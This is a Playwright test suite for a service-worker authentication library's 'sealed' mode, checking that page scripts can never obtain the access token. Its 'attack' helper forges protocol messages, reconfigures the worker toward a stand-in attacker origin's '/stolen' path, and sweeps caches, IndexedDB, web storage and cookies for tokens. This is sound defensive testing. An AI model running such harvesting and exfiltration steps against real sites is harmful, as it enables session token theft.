/** Mode `sealed`: the worker is the only context with a token. A page tries everything it could try without asking the endpoint itself. */
import type { Page } from '@playwright/test';
import { expect, test } from '../harness/fixtures.js';
import { becomesActive, type Origin } from '../harness/origin.js';
import type { Tab } from '../harness/tab.js';
import { elsewhere, get, plain, script, stopWorkers } from './plain.js';

const sealed = { mode: 'sealed' } as const;
const apisOf = (origin: Origin) => [{ origin: origin.server.origin, path: '/api' }];

async function signIn(origin: Origin): Promise<Tab> {
  const tab = await origin.open('tab1', { ...sealed, apis: apisOf(origin) });
  expect(await tab.run('registerWorker', { url: script })).toBe('active');
  expect(await tab.run('login', 'ada')).toEqual({ ok: true });
  await becomesActive([tab]);
  return tab;
}

/** Starts to note everything that ever reaches the page, by every door a script of the origin can open. */
const listen = (page: Page, name: string): Promise<void> =>
  page.evaluate((channel) => {
    const heard: string[] = [];
    const note = (data: unknown) => void heard.push(JSON.stringify(data));
    const listener = new BroadcastChannel(channel);
    listener.onmessage = ({ data }) => note(data);
    navigator.serviceWorker.addEventListener('message', ({ data }) => note(data));
    navigator.serviceWorker.startMessages();
    addEventListener('message', ({ data }) => note(data));
    Object.assign(window, { heard, note, listener });
  }, name);

/** Asks everybody who might answer with a token, in every word of the protocol. */
const attack = (page: Page, evil: string): Promise<void> =>
  page.evaluate(async (stranger) => {
    const { listener, note } = window as never as { listener: BroadcastChannel; note: (data: unknown) => void };
    const head = { protocol: 1, from: 'attacker', incarnation: 'any' };
    for (const body of [
      { type: 'TOKEN_REQUEST', key: '|', have: 0 },
      { type: 'ROLL_CALL' },
      { type: 'SESSION_STARTED', sid: 'any', sessionAt: Date.now() + 1e6 },
      { type: 'STANDING', visible: true, activeAt: Date.now() },
      { type: 'LEADER_RESIGNED', epoch: 99 },
    ])
      listener.postMessage({ ...head, ...body });
    const worker = navigator.serviceWorker.controller!;
    const say = (type: string, config?: object) =>
      new Promise<void>((answered) => {
        const { port1, port2 } = new MessageChannel();
        port1.onmessage = ({ data }) => (note(data), answered());
        setTimeout(answered, 5_000);
        worker.postMessage({ tabaton: 1, type, config, protocol: 1, from: 'attacker', incarnation: 'any', key: '|', have: 0 }, [port2]);
      });
    for (const type of ['CLAIM', 'REPORT', 'START']) await say(type);
    for (const type of ['CONFIGURE', 'TOKEN_REQUEST', 'GET_TOKEN', '']) void say(type);
    const here = { origin: location.origin, path: '/api' };
    for (const mode of ['attach', 'sealed']) {
      await say('CONFIGURE', { endpoint: '/auth', apis: [here, { origin: stranger }], mode });
      await fetch(`${stranger}/stolen`).catch(note);
    }
    await say('CONFIGURE', { endpoint: '/auth', apis: [here], mode: 'attach' });
    for (const name of await caches.keys()) for (const request of await (await caches.open(name)).keys()) note({ cached: request.url, headers: [...request.headers] });
    for (const { name } of await indexedDB.databases()) {
      const db = await new Promise<IDBDatabase>((done) => {
        const open = indexedDB.open(name!);
        open.onsuccess = () => done(open.result);
      });
      for (const store of db.objectStoreNames)
        note(
          await new Promise((done) => {
            const all = db.transaction(store).objectStore(store).getAll();
            all.onsuccess = () => done(all.result);
          }),
        );
      db.close();
    }
    note({ ...localStorage });
    note({ ...sessionStorage });
    note(document.cookie);
    const answer = await fetch('/api/me');
    note([answer.url, [...answer.headers], await answer.text()]);
    await new Promise((answers) => setTimeout(answers, 500));
  }, evil);

test('no door of a sealed session gives a page a token', async ({ origin }) => {
  const name = `tabaton/${origin.server.origin}/auth`;
  const early = await plain(origin, 'early');
  await listen(early, name);
  const tab = await signIn(origin);
  await listen(tab.page, name);
  expect(await get(tab.page)).toMatchObject({ status: 200, user: 'ada' });

  const evil = await elsewhere();
  await attack(tab.page, evil.origin);
  await stopWorkers(tab.page);
  await attack(tab.page, evil.origin);
  origin.backend.rest();
  origin.server.api.expireAll();
  expect(await get(tab.page)).toMatchObject({ status: 200, user: 'ada' });
  await attack(tab.page, evil.origin);
  evil.server.close();
  expect(evil.seen.length).toBe(6);
  expect(evil.seen.filter(({ headers }) => headers.authorization)).toHaveLength(0);

  const heard = await Promise.all([early, tab.page].map((page) => page.evaluate(() => (window as never as { heard: string[] }).heard)));
  expect(heard.flat().join(), 'the session itself was heard of').toContain('TOKEN_HELD');
  for (const token of origin.server.api.tokens) expect(heard.flat().filter((text) => text.includes(token))).toEqual([]);
  expect(origin.server.api.tokens.length).toBeGreaterThan(1);
  expect(await tab.run('token')).toMatchObject({ ok: false, code: 'sealed' });
  expect(await tab.run('refresh')).toMatchObject({ ok: false, code: 'sealed' });
  expect(await tab.run('start', { access_token: 'mine', expires_in: 60 })).toMatchObject({ ok: false, code: 'sealed' });
  expect(await tab.run('peek')).toBeNull();
  expect(JSON.stringify([await tab.run('snapshot'), await tab.run('events')])).not.toMatch(new RegExp(origin.server.api.tokens.join('|')));
});

test('a sealed page sends no refresh, knows how the session stands, and its requests are signed', async ({ origin }) => {
  const tab = await signIn(origin);
  expect(await tab.run('snapshot')).toMatchObject({ status: 'active', sub: 'ada', generation: 1 });
  expect(await tab.run('api', '/api/me')).toMatchObject({ ok: true, value: { status: 200, user: 'ada' } });
  const second = await origin.open('tab2', { ...sealed, apis: apisOf(origin) });
  await becomesActive([second]);
  origin.backend.rest();
  const answers = await Promise.all([...origin.storm([tab, second]).values()]);
  expect(answers).toMatchObject([
    { ok: true, value: { status: 200 } },
    { ok: true, value: { status: 200 } },
  ]);
  await expect.poll(async () => (await second.run('snapshot')).generation).toBe(2);
  for (const { body } of origin.server.refreshes()) if (body) expect(JSON.parse(body)).toMatchObject({ context: 'service_worker' });
  expect(origin.server.refreshes().every(({ from }) => from === '')).toBe(true);
});

test('mixed modes count as sealed: a page that was not told holds nothing either', async ({ origin }) => {
  await signIn(origin);
  const other = await origin.open('untold', { apis: apisOf(origin) });
  expect(await other.run('token')).toMatchObject({ ok: false, code: 'sealed' });
  expect(await other.run('peek')).toBeNull();
  expect(await other.run('api', '/api/me')).toMatchObject({ ok: true, value: { status: 200, user: 'ada' } });
  await becomesActive([other]);
  expect(await other.run('registerWorker', { url: script })).toBe('active');
  expect(await other.run('events', 'problem')).toMatchObject([{ event: { code: 'worker_refused' } }]);
  expect(await get(other.page)).toMatchObject({ status: 200, user: 'ada' });
});

test('made quiet by a message it signs nothing, and opens to nobody; unregistered and registered anew it takes other APIs', async ({ origin }) => {
  const tab = await signIn(origin);
  const evil = await elsewhere();
  const say = (config: object) =>
    tab.page.evaluate(
      (given) =>
        new Promise<void>((answered) => {
          const { port1, port2 } = new MessageChannel();
          port1.onmessage = () => answered();
          navigator.serviceWorker.controller!.postMessage({ tabaton: 1, type: 'CONFIGURE', config: given }, [port2]);
        }),
      config,
    );
  await say({ endpoint: '/auth', apis: [], mode: 'attach' });
  expect((await get(tab.page)).status).toBe(401);
  for (const stop of [false, true]) {
    if (stop) await stopWorkers(tab.page);
    await say({ endpoint: '/auth', apis: [{ origin: evil.origin }], mode: 'attach' });
    await get(tab.page, `${evil.origin}/stolen`);
  }
  expect(evil.seen.map(({ headers }) => headers.authorization)).toEqual([undefined, undefined]);

  await tab.run('unregisterWorker');
  // A browser gives an unregistered worker up with its last page, and takes the old one again before.
  await tab.close();
  const wider = [...apisOf(origin), { origin: evil.origin }];
  const after = await origin.open('after', { ...sealed, apis: wider });
  expect(await after.run('registerWorker', { url: script })).toBe('active');
  await get(after.page, `${evil.origin}/now`);
  expect(evil.seen.at(-1)!.headers.authorization).toMatch(/^Bearer /);
  expect(await after.run('events', 'problem')).toEqual([]);
  evil.server.close();
});

test('an uncontrolled page asks to be taken over; where no worker can, it says not_controlled', async ({ origin }) => {
  const tab = await signIn(origin);
  const cdp = await origin.browser.newCDPSession(tab.page);
  const loaded = tab.page.waitForEvent('load');
  await cdp.send('Page.reload', { ignoreCache: true });
  await loaded;
  expect(await tab.run('api', '/api/me')).toMatchObject({ ok: true, value: { status: 200, user: 'ada' } });
  expect(origin.server.api.anonymous).toBe(0);

  const page = await origin.browser.newPage();
  await page.addInitScript(() => Object.defineProperty(navigator, 'serviceWorker', { value: undefined }));
  await page.goto(`${origin.server.origin}/?name=bare&options=${encodeURIComponent(JSON.stringify(sealed))}`);
  const answer = await page.evaluate(() => (window as never as { subject: { api(path: string): Promise<unknown> } }).subject.api('/api/me'));
  expect(answer).toMatchObject({ ok: false, code: 'not_controlled' });
});

test('signing out in a sealed session ends it for the worker and for every page', async ({ origin }) => {
  const tab = await signIn(origin);
  const second = await origin.open('tab2', { ...sealed, apis: apisOf(origin) });
  await becomesActive([second]);
  expect(await tab.run('signOut')).toEqual({ ok: true });
  await expect.poll(async () => (await second.run('snapshot')).status).toBe('ended');
  expect((await get(second.page)).status).toBe(401);
  expect(await second.run('login', 'eve')).toEqual({ ok: true });
  expect(await get(tab.page)).toMatchObject({ status: 200, user: 'eve' });
});

test('unregister() is the way back: pages that were not told hold tokens again', async ({ origin }) => {
  const tab = await signIn(origin);
  const other = await origin.open('untold', { apis: apisOf(origin) });
  expect(await other.run('token')).toMatchObject({ ok: false, code: 'sealed' });
  await tab.run('unregisterWorker');
  await tab.close();
  const after = await origin.open('after', { apis: apisOf(origin) });
  expect(await after.run('token')).toMatchObject({ ok: true });
});
